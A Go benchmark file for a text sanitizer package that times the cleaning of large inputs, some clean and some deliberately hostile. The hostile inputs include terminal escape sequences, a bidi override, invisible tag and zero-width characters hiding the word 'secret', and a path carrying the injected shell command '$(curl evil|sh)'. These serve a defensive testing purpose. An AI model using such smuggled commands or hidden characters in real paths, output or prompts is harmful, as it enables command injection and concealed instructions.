package canon

import (
	"strings"
	"testing"
)

// sourceText is 1 MiB of ordinary program output: code, log lines, tabs.
var sourceText = func() string {
	chunk := "func main() {\n\tfmt.Println(\"hello, world\") // `backticks` stay\n}\n" +
		"2026-11-22T18:00:00Z INFO server started on :8080 (pid 4242)\n" +
		"PASS: TestRelay (0.01s)\tok  \tgithub.com/x/y\t0.123s\n"
	return strings.Repeat(chunk, (1<<20)/len(chunk)+1)[:1<<20]
}()

// cjkText is 1 MiB of text that is mostly not ASCII and needs nothing.
var cjkText = strings.Repeat("日本語のテキスト。Ünïcödé — emoji 👨‍👩‍👧\n", (1<<20)/64)

// mixedText is 1 MiB of many scripts that keep their invisibles: Persian
// with ZWNJ, Devanagari conjuncts with ZWJ, Hebrew with RLM, Thai with
// ZWSP, Han with an ideographic variation selector, Greek, Cyrillic.
var mixedText = strings.Repeat("می\u200cخواهم کتاب\u200cها क्\u200dष हिन्दी \u200fשלום עולם ภาษา\u200bไทย 葛\U000E0100城 Ελληνικά Русский текст\n", (1<<20)/180)

// emojiText is 1 MiB of emoji sequences: ZWJ families and professions,
// skin tones, keycaps, VS16, flags and subdivision flags.
var emojiText = strings.Repeat("👨\u200d👩\u200d👧\u200d👦 👩🏽\u200d💻 ❤\ufe0f\u200d🔥 1\ufe0f\u20e3 🇳🇴 🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F 👍🏿 ok\n", (1<<20)/110)

// hostileText is 1 MiB with something to remove every few bytes.
var hostileText = strings.Repeat("ok \x1b[31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07 \u202eevil\U000E0041\n", (1<<20)/64)

// sparseText is 1 MiB of sourceText with a colour change every 4 KiB:
// big output that needs a rewrite, mostly of clean runs.
var sparseText = func() string {
	var b strings.Builder
	for i := 0; i < len(sourceText); i += 4096 {
		b.WriteString(sourceText[i : i+4096])
		b.WriteString("\x1b[31m")
	}
	return b.String()
}()

// prose is a typical tool description: one paragraph, nothing to change.
var prose = "Read the complete contents of a file from the file system. Handles various text encodings " +
	"and provides detailed error messages if the file cannot be read. Only works within allowed directories."

func benchText(b *testing.B, s string) {
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Text(s)
	}
}

func BenchmarkTextClean(b *testing.B)   { benchText(b, sourceText) }
func BenchmarkTextCJK(b *testing.B)     { benchText(b, cjkText) }
func BenchmarkTextHostile(b *testing.B) { benchText(b, hostileText) }
func BenchmarkTextMixed(b *testing.B)   { benchText(b, mixedText) }
func BenchmarkTextEmoji(b *testing.B)   { benchText(b, emojiText) }
func BenchmarkTextInvisibleSmuggling(b *testing.B) {
	benchText(b, strings.Repeat("s\u200be\u200cc\U000E0100r\u00ade\u2062t ", (1<<20)/24))
}
func BenchmarkTextSparse(b *testing.B) { benchText(b, sparseText) }
func BenchmarkTextShort(b *testing.B)  { benchText(b, prose) }

func BenchmarkNeedsText(b *testing.B) {
	src := []byte(sourceText)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		if NeedsText(src) {
			b.Fatal("clean text needs text")
		}
	}
}

func BenchmarkAppendTextHostile(b *testing.B) {
	src := []byte(hostileText)
	dst := make([]byte, 0, len(src))
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		dst, _ = AppendText(dst[:0], src)
	}
}

func benchFreeText(b *testing.B, s string, max int) {
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		FreeText(s, max)
	}
}

func BenchmarkFreeTextClean(b *testing.B)   { benchFreeText(b, prose, 0) }
func BenchmarkFreeTextRewrite(b *testing.B) { benchFreeText(b, sourceText[:4096], 4096) }
func BenchmarkFreeTextHostile(b *testing.B) { benchFreeText(b, hostileText[:4096], 4096) }

// BenchmarkFreeTextCapped is a 1 MiB value cut to the default cap: the
// cost is the scan, not a rewrite of the whole.
func BenchmarkFreeTextCapped(b *testing.B) { benchFreeText(b, sourceText, 0) }

func benchPath(b *testing.B, s string) {
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Path(s)
	}
}

func BenchmarkPathClean(b *testing.B) {
	benchPath(b, "/home/user/src/github.com/project/internal/pkg/file_name.go")
}

func BenchmarkPathHostile(b *testing.B) {
	benchPath(b, "/home/user/My Documents/résumé (final) $(curl evil|sh)/\x1b[31mfile.go")
}
